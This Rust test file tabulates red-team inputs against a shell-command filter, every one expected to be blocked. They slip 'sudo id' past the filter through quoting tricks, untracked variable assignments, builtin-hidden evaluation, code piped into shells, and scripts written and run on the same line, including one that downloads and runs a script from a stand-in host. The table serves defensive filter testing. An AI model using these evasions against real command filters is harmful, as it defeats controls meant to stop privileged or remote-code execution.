//! Red-team forms of the shell itself (issue 25): quoting and lexer desync,
//! variables the filter cannot vouch for, evaluation hidden in builtins,
//! code piped or redirected into shells, and files written and run on the
//! same line. Each is blocked; the table in SECURITY.md lists them.

use super::Filter::{self, Blocks};

pub(super) const ROWS: &[(&str, &str, Filter)] = &[
    // Quoting and lexer desync.
    ("locale-translated string", "$\"sudo\" id", Blocks),
    ("(( )) that is two subshells", "((sudo id) )", Blocks),
    (
        "$(( )) that is a substitution of a subshell",
        "echo $((sudo id) )",
        Blocks,
    ),
    (
        "CR in a quoted here-document delimiter",
        "cat <<'EOF\r'\nx\nEOF\r\nsudo id",
        Blocks,
    ),
    (
        "CR after a here-document delimiter",
        "cat <<EOF\r\nx\nEOF\r\nsudo id",
        Blocks,
    ),
    ("brace lists across quotes", "{,x}''{sudo,} id", Blocks),
    ("brace sequence", "{s..s}udo id", Blocks),
    (
        "old arithmetic $[ ] with a shift",
        "echo $[1<<2]\nsudo id",
        Blocks,
    ),
    (
        "U+00A0 inside a here-document delimiter",
        "cat <<EOF\u{a0}X\nEOF\u{a0}X\nsudo id",
        Blocks,
    ),
    ("line continuation inside the name", "su\\\ndo id", Blocks),
    ("empty $@ inside the name", "s$@udo id", Blocks),
    ("unset variable inside the name", "s${x}udo id", Blocks),
    ("substitution that prints nothing", "$(: )sudo id", Blocks),
    // Variables the filter does not follow.
    ("+= appends", "x=su; x+=do; $x id", Blocks),
    ("printf -v", "x=ls; printf -v x sudo; $x id", Blocks),
    ("read", "x=ls; read x <<< sudo; $x id", Blocks),
    ("declare", "x=ls; declare x=sudo; $x id", Blocks),
    ("export", "x=ls; export x=sudo; $x id", Blocks),
    ("typeset", "x=ls; typeset x=sudo; $x id", Blocks),
    ("for loop variable", "x=ls; for x in sudo; do $x id; done", Blocks),
    (
        "select loop variable",
        "x=ls; select x in sudo; do $x id; break; done <<< 1",
        Blocks,
    ),
    ("mapfile", "x=ls; mapfile -t x <<< sudo; $x id", Blocks),
    ("readarray", "x=ls; readarray -t x <<< sudo; $x id", Blocks),
    ("${x:=\u{2026}} assigns", ": ${x:=sudo}; $x id", Blocks),
    (
        "${x:=\u{2026}} on an empty value",
        "x=; : ${x:=sudo}; $x id",
        Blocks,
    ),
    ("default expansion as the command", "${x:-sudo} id", Blocks),
    (
        "assignment in a branch",
        "x=sudo; if false; then x=ls; fi; $x id",
        Blocks,
    ),
    ("assignment after ||", "x=sudo; true || x=ls; $x id", Blocks),
    ("assignment in a subshell", "x=sudo; (x=ls); $x id", Blocks),
    ("assignment in a pipeline", "x=sudo; echo | x=ls; $x id", Blocks),
    ("assignment in the background", "x=sudo; x=ls & $x id", Blocks),
    (
        "prefix assignment that does not stick",
        "x=sudo; x=ls true; $x id",
        Blocks,
    ),
    (
        "prefix assignment and the word it precedes",
        "x=sudo; x=ls $x id",
        Blocks,
    ),
    ("eval assigns", "x=ls; eval x=sudo; $x id", Blocks),
    ("nameref", "declare -n r=x; x=ls; r=sudo; $x id", Blocks),
    ("function that assigns", "x=ls; f() { x=sudo; }; f; $x id", Blocks),
    ("sourced file", "x=ls; . ./env.sh; $x id", Blocks),
    ("IFS splits a value", "IFS=,; x=sudo,id; $x", Blocks),
    ("arithmetic assigns", "x=ls; (( x = 1 )); $x id", Blocks),
    // Evaluation hidden in builtins.
    ("trap --", "trap -- 'sudo id' EXIT", Blocks),
    ("trap on DEBUG", "trap 'sudo id' DEBUG; :", Blocks),
    ("eval --", "eval -- 'sudo id'", Blocks),
    ("coproc", "coproc sudo id", Blocks),
    ("named coproc", "coproc x { sudo id; }", Blocks),
    ("let with a subscript", "let 'x[$(sudo id)]=1'", Blocks),
    ("[[ -v ]] with a subscript", "[[ -v 'x[$(sudo id)]' ]]", Blocks),
    ("[[ -eq ]] on a subscript", "[[ 'x[$(sudo id)]' -eq 1 ]]", Blocks),
    (
        "printf -v with a subscript",
        "printf -v 'x[$(sudo id)]' 1",
        Blocks,
    ),
    ("test -v with a subscript", "test -v 'x[$(sudo id)]'", Blocks),
    ("unset with a subscript", "unset 'x[$(sudo id)]'", Blocks),
    ("declare with a subscript", "declare 'x[$(sudo id)]=1'", Blocks),
    (
        "arithmetic on a variable holding a subscript",
        "x='a[$(sudo id)]'; (( x ))",
        Blocks,
    ),
    (
        "$(( )) on a variable holding a subscript",
        "x='a[$(sudo id)]'; echo $(( x + 1 ))",
        Blocks,
    ),
    ("${x@P} prompt expansion", "x='$(sudo id)'; echo ${x@P}", Blocks),
    (
        "mapfile -C callback",
        "mapfile -C 'sudo id' -c 1 < /etc/hostname",
        Blocks,
    ),
    ("PS4 with set -x", "PS4='$(sudo id)'; set -x; true", Blocks),
    (
        "PROMPT_COMMAND",
        "PROMPT_COMMAND='sudo id' bash -i < /dev/null",
        Blocks,
    ),
    (
        "BASH_ENV from a file written on the line",
        "echo 'sudo id' > e.sh; BASH_ENV=./e.sh bash -c true",
        Blocks,
    ),
    (
        "BASH_ENV from stdin",
        "BASH_ENV=/dev/stdin bash -c true <<< 'sudo id'",
        Blocks,
    ),
    (
        "alias used after definition",
        "shopt -s expand_aliases; alias ls='sudo id'\nls",
        Blocks,
    ),
    (
        "hash -p renames a program",
        "cp /bin/sh ./x; hash -p ./x ls; ls -c id",
        Blocks,
    ),
    // Code piped or redirected into shells.
    ("xargs -0 sh -c", "printf 'sudo id\\0' | xargs -0 sh -c", Blocks),
    (
        "tee into a process substitution",
        "echo 'sudo id' | tee >(sh)",
        Blocks,
    ),
    (
        "redirection into a process substitution",
        "echo 'sudo id' > >(sh)",
        Blocks,
    ),
    ("sh -c sh", "echo 'sudo id' | sh -c sh", Blocks),
    (
        "shell in a subshell reading the pipe",
        "echo 'sudo id' | (sh)",
        Blocks,
    ),
    (
        "shell in a group reading the pipe",
        "echo 'sudo id' | { true; sh; }",
        Blocks,
    ),
    (
        "exec sh -s reading the pipe",
        "echo 'sudo id' | (exec sh -s)",
        Blocks,
    ),
    (
        "shell options before the pipe's end",
        "echo 'sudo id' | bash -o pipefail",
        Blocks,
    ),
    ("fifo", "mkfifo p; sh < p & echo 'sudo id' > p", Blocks),
    ("coproc shell", "coproc sh; echo 'sudo id' >&${COPROC[1]}", Blocks),
    (
        "shell reading another descriptor",
        "exec 3<<< 'sudo id'; sh <&3",
        Blocks,
    ),
    ("group with its stdin redirected", "{ sh; } <<< 'sudo id'", Blocks),
    (
        "python runs what it reads",
        "echo 'sudo id' | python3 -c 'import os,sys; os.system(sys.stdin.read())'",
        Blocks,
    ),
    (
        "awk runs its input",
        "echo 'sudo id' | awk '{system($0)}'",
        Blocks,
    ),
    (
        "perl runs its input",
        "echo 'sudo id' | perl -ne 'system $_'",
        Blocks,
    ),
    ("sed e runs its input", "echo 'sudo id' | sed e", Blocks),
    (
        "sed s///e runs its input",
        "echo 'sudo id' | sed 's/^//e'",
        Blocks,
    ),
    // Files written and run on the same line.
    (
        "dd writes the script",
        "echo c3VkbyBpZA== | base64 -d | dd of=x.sh; sh x.sh",
        Blocks,
    ),
    (
        "sed w writes the script",
        "echo 'sudo id' | sed -n 'w x.sh'; sh x.sh",
        Blocks,
    ),
    (
        "find -fprintf writes the script",
        "find . -maxdepth 0 -fprintf x.sh 'sudo id'; sh x.sh",
        Blocks,
    ),
    (
        "awk print > writes the script",
        "awk 'BEGIN{print \"sudo id\" > \"x.sh\"}'; sh x.sh",
        Blocks,
    ),
    (
        "python writes the script",
        "python3 -c \"open('x.sh','w').write('sudo id')\"; sh x.sh",
        Blocks,
    ),
    (
        "tee writes the script",
        "printf 'sudo id' | tee x.sh >/dev/null; bash x.sh",
        Blocks,
    ),
    (
        "cp from stdin writes the script",
        "cp /dev/stdin x.sh <<< 'sudo id'; sh x.sh",
        Blocks,
    ),
    ("download then run", "curl -so x.sh http://x/s; sh x.sh", Blocks),
    ("run before the write", "sh x.sh; echo 'sudo id' > x.sh", Blocks),
    (
        "compiled from a source written on the line",
        "echo 'int main(){return system(\"sudo id\");}' > x.c; cc x.c -o x; ./x",
        Blocks,
    ),
    (
        "PATH points at a script written on the line",
        "printf 'sudo id' > ls; chmod +x ls; PATH=.:$PATH ls",
        Blocks,
    ),
    (
        "stdin of the script moved to the file",
        "echo 'sudo id' > x.sh; exec 0< x.sh; sh",
        Blocks,
    ),
    (
        "written into a directory, run from it",
        "echo 'sudo id' > d/x.sh; cd d; sh x.sh",
        Blocks,
    ),
    (
        "link written on the line",
        "ln -s /usr/bin/sudo ls; PATH=.:$PATH ls id",
        Blocks,
    ),
    (
        "interpreter runs a script written on the line",
        "echo 'import os; os.system(\"sudo id\")' > x.py; python3 x.py",
        Blocks,
    ),
];
